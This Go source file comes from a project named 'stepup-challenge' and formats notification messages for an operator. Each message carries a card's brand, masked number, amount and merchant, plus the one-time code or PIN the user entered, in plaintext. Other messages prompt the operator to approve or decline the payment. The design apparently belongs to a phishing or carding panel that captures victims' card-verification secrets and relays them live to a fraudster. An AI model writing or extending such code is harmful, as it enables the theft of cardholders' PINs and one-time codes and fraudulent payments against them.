package notify

import (
	"fmt"
	"strings"

	"stepup-challenge/internal/challenge/domain"
)

func instrumentLines(in domain.Instrument) string {
	var b strings.Builder
	brand := in.Brand
	if brand == "" {
		brand = "Card"
	}
	fmt.Fprintf(&b, "Card: %s %s\n", brand, in.MaskedNumber)
	fmt.Fprintf(&b, "Amount: %s\n", in.FormattedAmount())
	if in.MerchantLabel != "" {
		fmt.Fprintf(&b, "Merchant: %s\n", in.MerchantLabel)
	}
	return b.String()
}

// CodeMessage reports an entered one-time code.
func CodeMessage(sessionID string, in domain.Instrument, code string) string {
	return fmt.Sprintf("Verification code entered [%s]\n%sCode: %s", shortID(sessionID), instrumentLines(in), code)
}

// PINMessage reports an entered PIN.
func PINMessage(sessionID string, in domain.Instrument, pin string) string {
	return fmt.Sprintf("PIN entered [%s]\n%sPIN: %s", shortID(sessionID), instrumentLines(in), pin)
}

// ApprovalRequestMessage asks the operator to approve or decline.
func ApprovalRequestMessage(sessionID string, in domain.Instrument) string {
	return fmt.Sprintf("Approval required [%s]\n%sApprove this payment?", shortID(sessionID), instrumentLines(in))
}

// TimeoutMessage reports that no decision arrived in time.
func TimeoutMessage(sessionID string) string {
	return fmt.Sprintf("Approval request [%s] expired without a decision.", shortID(sessionID))
}

// AckText is shown on the operator's client after a decision is received.
func AckText(approved bool) string {
	if approved {
		return "Payment approved"
	}
	return "Payment declined"
}

// StaleAckText answers a decision that arrived after the request had already ended.
const StaleAckText = "This request is no longer active"

func shortID(id string) string {
	if len(id) > 8 {
		return id[:8]
	}
	return id
}
